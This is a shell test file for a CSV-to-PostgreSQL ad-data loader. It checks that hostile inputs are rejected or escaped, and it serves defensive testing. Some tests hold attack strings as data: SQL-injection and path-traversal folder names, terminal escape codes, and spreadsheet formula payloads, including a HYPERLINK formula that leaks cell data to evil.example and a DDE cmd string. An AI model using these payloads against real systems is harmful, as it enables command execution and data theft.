assert_rss_bounded() {
    [ "$RSS" -lt 65536 ] || fail "peak RSS ${RSS} KiB, over 64 MiB"
}

# reasons_of FILE - "line,reason" of each row of a rejects file.
reasons_of() {
    $PY - "$1" <<'PY'
import csv, sys
csv.field_size_limit(1 << 30)
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    rows = list(csv.reader(f))
assert rows[0] == ['line', 'reason', 'detail', 'raw'], rows[0]
print("\n".join(r[0] + "," + r[1] for r in rows[1:]))
PY
}

nclicks() { q "SELECT count(*) FROM clicks"; }

test_hostile_100_mb_line_is_rejected_in_bounded_memory() {
    seed_entities
    mkdir -p "$W/in/1"
    # line 3: an unclosed quote and then 100 MB without a line break
    $PY - "$W/in/1/clicks-long.csv" "$H_CLICKS" "$GOOD" <<'PY'
import sys
path, header, good = sys.argv[1:]
with open(path, "wb") as f:
    f.write(f"{header}\n{good}\n".encode())
    f.write(b'1,"')
    chunk = b"x" * (1 << 20)
    for _ in range(100):
        f.write(chunk)
    f.write(f"\n{good.replace('10:00:00', '11:00:00')}\n".encode())
PY
    hload --max-reject-rate 0.5 "$W/in/1/clicks-long.csv"
    rm -f "$W/in/1/clicks-long.csv"
    assert_eq 3 "$RC" "exit code"
    assert_contains "$OUT" "loaded 2 rows, rejected 1"
    assert_eq "3,row_too_long" "$(reasons_of "$W/rej/1/clicks-long.csv.rejects.csv")"
    # the raw bytes kept are bounded too
    [ "$(stat -c %s "$W/rej/1/clicks-long.csv.rejects.csv")" -lt $((3 * 1024 * 1024)) ] ||
        fail "the rejects file holds more than the row limit"
    assert_rss_bounded
    assert_eq 2 "$(nclicks)"
}

test_hostile_million_columns_are_rejected_or_refused() {
    seed_entities
    mkdir -p "$W/in/1" "$W/in2/1"
    $PY - "$W" "$H_CLICKS" "$GOOD" <<'PY'
import sys
w, header, good = sys.argv[1:]
with open(f"{w}/in/1/clicks-wide.csv", "w") as f:       # a data row of 1,000,000 fields
    f.write(f"{header}\n{good}\n" + "," * 999999 + f"\n{good.replace('10:00', '10:01')}\n")
with open(f"{w}/in2/1/clicks-wide-header.csv", "w") as f:  # a header of 1,000,000 columns
    f.write(header + "," * (1000000 - 6) + f"\n{good}\n")
PY
    hload --max-reject-rate 0.5 "$W/in/1/clicks-wide.csv"
    assert_eq 3 "$RC" "exit code"
    assert_eq "3,field_count" "$(reasons_of "$W/rej/1/clicks-wide.csv.rejects.csv")"
    grep -q "found 1000000" "$W/rej/1/clicks-wide.csv.rejects.csv" || fail "the detail does not give the true count"
    assert_rss_bounded
    hload "$W/in2/1/clicks-wide-header.csv"
    assert_eq 4 "$RC" "exit code"
    assert_contains "$OUT" "the header has 1000000 columns"
    assert_rss_bounded
    assert_eq 2 "$(nclicks)"
    assert_eq 1 "$(q "SELECT count(*) FROM adreport_loaded_files WHERE kind = 'clicks'")"
}

test_hostile_deeply_nested_json_is_rejected() {
    seed_entities
    mkdir -p "$W/in/1"
    $PY - "$W/in/1/clicks-deep.csv" "$H_CLICKS" "$GOOD" <<'PY'
import sys
path, header, good = sys.argv[1:]
base = good.rsplit(",", 1)[0]
with open(path, "w") as f:
    f.write(f"{header}\n{good}\n")
    f.write(base + "," + "[" * 100000 + "\n")                                 # unclosed
    f.write(base + ",\"" + '{""a"":' * 50000 + "1" + "}" * 50000 + "\"\n")   # balanced objects
    f.write(base + "," + "[" * 512 + "]" * 512 + "\n")                        # the limit: kept
    f.write(base + "," + "[" * 513 + "]" * 513 + "\n")                        # one more: rejected
PY
    hload --max-reject-rate 0.9 "$W/in/1/clicks-deep.csv"
    assert_eq 3 "$RC" "exit code"
    assert_eq "3,bad_json
4,bad_json
6,bad_json" "$(reasons_of "$W/rej/1/clicks-deep.csv.rejects.csv")"
    grep -q "nested deeper than 512 levels" "$W/rej/1/clicks-deep.csv.rejects.csv" || fail "no reason given"
    assert_eq 2 "$(nclicks)"
    assert_rss_bounded
}

test_hostile_enormous_numbers_are_rejected_or_stored_exactly() {
    seed_entities
    mkdir -p "$W/in/1"
    local base='1,2026-11-01 10:00:00,http://a.example/'
    {
        echo "$H_CLICKS"
        echo "$GOOD"
        echo "$base,$(printf '9%.0s' $(seq 1000)),10.0.0.1,{}"          # 3: cost of 1000 digits
        echo "${base/1,/$(printf '7%.0s' $(seq 1000)),},0.5,10.0.0.1,{}" # 4: ad_id of 1000 digits
        echo "$base,0.5,10.0.0.1,1e999999999"                           # 5: beyond numeric
        echo "$base,0.5,10.0.0.1,\"{\"\"n\"\":-1e1073741823}\""         # 6: beyond numeric_in
        echo "$base,1e3,10.0.0.1,{}"                                      # 7: exponent in a cost
        echo "${base/2026/99999},0.5,10.0.0.1,{}"                         # 8: year 99999
    } >"$W/in/1/clicks-big.csv"
    # a cost of 1000 fraction digits is a valid decimal: rounded to 10 places
    echo "$H_CLICKS" >"$W/in/1/clicks-frac.csv"
    echo "$base,0.$(printf '4%.0s' $(seq 10))5$(printf '0%.0s' $(seq 988))1,10.0.0.1,{}" >>"$W/in/1/clicks-frac.csv"
    hload --max-reject-rate 0.9 "$W/in/1/clicks-big.csv" "$W/in/1/clicks-frac.csv"
    assert_eq 3 "$RC" "exit code"
    assert_eq "3,bad_cost
4,bad_ad_id
5,bad_json
6,bad_json
7,bad_cost
8,bad_time" "$(reasons_of "$W/rej/1/clicks-big.csv.rejects.csv")"
    assert_eq "0.5000000000
0.4444444445" "$(q "SELECT cost_per_click_usd FROM clicks ORDER BY 1 DESC")"
}

# Every JSON number the validator takes must be one PostgreSQL stores, or the
# whole file's COPY fails: one file per number at numeric's limits.
test_hostile_json_numbers_at_numeric_limits_never_fail_a_copy() {
    seed_entities
    local values=(1e131071 9.9999e131071 1e131072 1e-16383 0.1e-16383 1e-16384 0e-16383
        0e-16384 0.0e-16383 1e1073741822 -1e-1073741822 -0.0 1E+1000
        100000000000000000000000000000000000000000e131030 0.00000000000000000001e-16363)
    local i v
    values+=("0.$(printf '0%.0s' $(seq 16382))1" "0.$(printf '0%.0s' $(seq 16383))1")
    for i in "${!values[@]}"; do
        mkdir -p "$W/in/1"
        { echo "$H_CLICKS"; echo "1,2026-11-01 10:00:00,http://n$i.example/,0.5,10.0.0.1,\"{\"\"n\"\":${values[$i]}}\""; } \
            >"$W/in/1/clicks-n$i.csv"
    done
    local rc=0 out
    out=$("$ADR" load --max-reject-rate 1 --rejects "$W/rej" "$W/in" 2>&1) || rc=$?
    case "$rc" in 0 | 3) ;; *) echo "$out"; fail "exit $rc: a file failed" ;; esac
    for i in "${!values[@]}"; do
        v=${values[$i]}
        local pg loaded
        pg=$(psql -X -A -t -q -c "SELECT 1 FROM (SELECT '{\"n\":$v}'::jsonb) s" 2>/dev/null || echo 0)
        loaded=$(q "SELECT count(*) FROM clicks WHERE site_url = 'http://n$i.example/'")
        assert_eq "$pg" "$loaded" "number ${v:0:40} (1 = PostgreSQL takes it)"
    done
}

test_hostile_binary_file_and_truncated_gzip_are_refused() {
    seed_entities
    mkdir -p "$W/in/1"
    $PY -c 'import random, sys; sys.stdout.buffer.write(random.Random(5).randbytes(1 << 20))' >"$W/in/1/clicks-x.csv"
    hload "$W/in/1/clicks-x.csv"
    assert_eq 4 "$RC" "exit code of a binary file"
    assert_contains "$OUT" "probably not the expected format"
    assert_rss_bounded
    { echo "$H_CLICKS"; for i in $(seq 1 20000); do echo "1,2026-11-01 10:00:00,http://a.example/$i,0.5,10.0.0.1,{}"; done; } |
        gzip >"$W/full.gz"
    head -c $(($(stat -c %s "$W/full.gz") / 2)) "$W/full.gz" >"$W/in/1/clicks-cut.csv.gz"
    hload "$W/in/1/clicks-cut.csv.gz"
    assert_eq 4 "$RC" "exit code of a truncated gzip"
    assert_contains "$OUT" "could not read the file"
    assert_contains "$OUT" "truncated"
    assert_eq "0 0" "$(nclicks) $(q 'SELECT count(*) FROM adreport_loaded_files WHERE kind = '\''clicks'\''')"
}

test_hostile_tenant_folder_names_load_nothing() {
    seed_entities
    mkdir -p "$W/in/1" "$W/in/x" "$W/in/1 OR 1=1" "$W/in/1; DROP TABLE clicks; --"
    printf '%s\n%s\n' "$H_CLICKS" "$GOOD" >"$W/in/x/clicks-a.csv"
    # "../x" from a tenant folder
    hload "$W/in/1/../x/clicks-a.csv"
    assert_eq 4 "$RC" "exit code"
    assert_contains "$OUT" "the file's company cannot be told"
    # SQL in folder names, with and without a company_id column to fall back on
    printf '%s\n%s\n' "$H_CLICKS" "$GOOD" >"$W/in/1 OR 1=1/clicks-b.csv"
    printf 'company_id,%s\n1,%s\n' "$H_CLICKS" "$GOOD" >"$W/in/1; DROP TABLE clicks; --/clicks-c.csv"
    rm -rf "$W/in/1" "$W/in/x"
    local out rc=0
    out=$("$ADR" run --incoming "$W/in" --reports "$W/rep" --rejects "$W/rej" 2>&1) || rc=$?
    echo "$out"
    assert_eq 4 "$rc" "exit code of the run"
    assert_eq 0 "$(nclicks)" "rows loaded from folders that are not company ids"
    assert_eq 0 "$(q "SELECT count(*) FROM adreport_loaded_files WHERE kind = 'clicks'")"
    assert_eq 1 "$(q "SELECT count(*) FROM pg_tables WHERE tablename = 'clicks'")"
}

test_hostile_names_cannot_drive_the_operators_terminal() {
    q "INSERT INTO companies VALUES (7, E'Evil\\x1b]2;pwned\\x07\\x1b[2J Co \\\\x41 \\u0085.', NULL, now(), now())"
    local out
    out=$("$ADR" tenant --company 7)
    assert_contains "$out" 'name             Evil\x1b]2;pwned\x07\x1b[2J Co \\x41 \xc2\x85.'
    case "$out" in *$'\e'* | *$'\a'* | *$'\xc2\x85'*) fail "a control character reached the terminal" ;; esac
}

test_hostile_names_appear_escaped_in_reports() {
    local formula='=HYPERLINK("http://evil.example/?x="&A1,"click")'
    mkdir -p "$W/ent" "$W/in/1"
    $PY - "$W/ent" <<'PY'
import csv, sys
d = sys.argv[1]
ts = "2026-01-01 00:00:00"
def write(name, rows):
    with open(f"{d}/{name}", "w", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)
write("companies.csv", [[1, '=HYPERLINK("http://evil.example/?x="&A1,"click")', "", ts, ts]])
camps = ['+SUM(1,2)', '-2+3', '@cmd|" /C calc"!A0', '"quoted", with comma', '\tTab first',
         'O\'Brien "Ads"', 'line\nbreak', '=1+1']
write("campaigns.csv", [[i + 1, 1, n, "cost_per_click", "active", "", "", ts, ts] for i, n in enumerate(camps)])
write("ads.csv", [[i + 1, 1, i + 1, n, "", "", 0, 0, ts, ts] for i, n in enumerate(reversed(camps))])
PY
    "$ADR" load -q "$W/ent"
    assert_eq "$formula" "$(q "SELECT name FROM companies WHERE id = 1")" "company name stored as sent"
    printf '%s\n%s\n' "$H_CLICKS" "$GOOD" >"$W/in/1/clicks-a.csv"
    "$ADR" load -q --rejects "$W/rej" "$W/in"
    "$ADR" rollup -q
    "$ADR" report -q --company 1 --month 2026-11 --out "$W/rep"
    PGDATABASE=$PGDATABASE $PY - "$W/rep/1/2026-11" <<'PY'
import csv, subprocess, sys
import openpyxl
d = sys.argv[1]
def names(table):
    out = subprocess.run(["psql", "-X", "-A", "-t", "-q", "-c",
                          f"COPY (SELECT id, name FROM {table} WHERE company_id = 1) TO STDOUT WITH (FORMAT csv)"],
                         check=True, capture_output=True, text=True).stdout
    return {int(r[0]): r[1] for r in csv.reader(out.splitlines(True))}
def escaped(s):
    return "'" + s if s[:1] in ("=", "+", "-", "@", "\t", "\r") else s
for table, fname, idcol, namecol in (("campaigns", "campaigns.csv", "campaign_id", "campaign_name"),
                                     ("ads", "ads.csv", "ad_id", "ad_name")):
    want = names(table)
    with open(f"{d}/{fname}", newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    got = {int(r[idcol]): r[namecol] for r in rows}
    for i, name in want.items():
        assert got.get(i) == escaped(name), f"{fname} id {i}: {got.get(i)!r}, expected {escaped(name)!r}"
wb = openpyxl.load_workbook(f"{d}/performance.xlsx")
company = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
seen = False
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
            seen |= c.value == company
assert seen, "the company name is not in the workbook as text"
print("names escaped in CSV, text in XLSX")
PY
}

# --- CSV edge cases: what PostgreSQL's COPY ... CSV would store or refuse -----

# A carriage return inside a row (not before its line feed) is not a field
# separator: COPY refuses such a line; adreport must reject it, not load a
# row whose fields were cut at the CR.
test_bare_carriage_return_inside_a_row_is_rejected() {
    seed_entities
    mkdir -p "$W/in/1"
    printf '%s\n%s\n%s\n' "$H_CLICKS" "$GOOD" \
        $'1,2026-11-01 11:00:00,http://a.example/\r0.5,10.0.0.1,{}' >"$W/in/1/clicks-cr.csv"
    hload --max-reject-rate 0.5 "$W/in/1/clicks-cr.csv"
    assert_eq 3 "$RC" "exit code"
    assert_eq 1 "$(nclicks)" "rows loaded (only the good one)"
    assert_eq "3,bad_csv" "$(reasons_of "$W/rej/1/clicks-cr.csv.rejects.csv")"
}

# A file may start with blank lines (the fuzzer's first find: an empty first
# line made the row splitter do memcpy(NULL + 0, ..., 0), undefined
# behaviour that a SANITIZE=1 build aborts on).
test_file_starting_with_an_empty_line_loads() {
    seed_entities
    mkdir -p "$W/in/1"
    printf '\n\n%s\n%s\n' "$H_CLICKS" "$GOOD" >"$W/in/1/clicks-blank.csv"
    assert_exit 0 "$ADR" load -q --rejects "$W/rej" "$W/in/1/clicks-blank.csv"
    assert_eq 1 "$(nclicks)"
}

# RFC 4180 and COPY ... CSV keep spaces around unquoted fields; README says an
# entity file loads as `\copy ... with csv` loads it.
test_unquoted_spaces_are_kept_as_copy_keeps_them() {
    seed_entities
    mkdir -p "$W/ent"
    printf '20, Spaced Name ,,2026-01-01 00:00:00,2026-01-01 00:00:00\n21,\tTabbed,,2026-01-01 00:00:00,2026-01-01 00:00:00\n' \
        >"$W/ent/companies-ws.csv"
    "$ADR" load -q --rejects "$W/rej" "$W/ent/companies-ws.csv"
    local want
    want=$(printf '%s\n' "CREATE TEMP TABLE c (LIKE companies);" \
        "\\copy c from '$W/ent/companies-ws.csv' with csv" \
        "SELECT string_agg(id || ':[' || name || ']', ',' ORDER BY id) FROM c;" |
        psql -X -A -t -q -v ON_ERROR_STOP=1)
    assert_eq "$want" "$(q "SELECT string_agg(id || ':[' || name || ']', ',' ORDER BY id) FROM companies WHERE id >= 20")" \
        "names as \\copy stores them"
    # In an event log: the site_url keeps its spaces, and an IP address with
    # spaces is rejected (bad_ip), as PostgreSQL's inet would refuse it.
    mkdir -p "$W/in/1"
    printf '%s\n%s\n%s\n' "$H_CLICKS" '1,2026-11-01 10:00:00, http://a.example/ ,0.5,10.0.0.1,{}' \
        '1,2026-11-01 10:00:01,http://b.example/,0.5, 10.0.0.1 ,{}' >"$W/in/1/clicks-ws.csv"
    hload --max-reject-rate 0.5 "$W/in/1/clicks-ws.csv"
    assert_eq "[ http://a.example/ ]" "$(q "SELECT string_agg('[' || site_url || ']', ',') FROM clicks")"
    assert_eq "3,bad_ip" "$(reasons_of "$W/rej/1/clicks-ws.csv.rejects.csv")"
}

# --- memory errors and leaks ------------------------------------------------------

test_valgrind_load_rollup_report_and_run_are_clean() {
    command -v valgrind >/dev/null || skip "valgrind not installed"
    asan_build && skip "adreport is built with ASan, which valgrind cannot run"
    local vg=(valgrind -q --error-exitcode=9 --leak-check=full --show-leak-kinds=definite
        --errors-for-leak-kinds=definite --track-fds=no --log-file="$W/vg.%p.log")
    local rc=0
    "${vg[@]}" "$ADR" load -q --rejects "$W/rej" samples/incoming || rc=$?
    assert_eq 3 "$rc" "load under valgrind (3: the samples have bad rows; 9: valgrind errors)"
    assert_exit 0 "${vg[@]}" "$ADR" rollup -q
    assert_exit 0 "${vg[@]}" "$ADR" report -q --all --month 2026-11 --out "$W/rep"
    cp -r samples/incoming "$W/in"
    assert_exit 0 "${vg[@]}" "$ADR" run -q --incoming "$W/in" --reports "$W/rep" --rejects "$W/rej"
    local logs
    logs=$(cat "$W"/vg.*.log)
    [ -z "$logs" ] || { echo "$logs" | head -n 60; fail "valgrind reported errors or leaks"; }
    $PY tests/check_rollup.py
}

run_tests
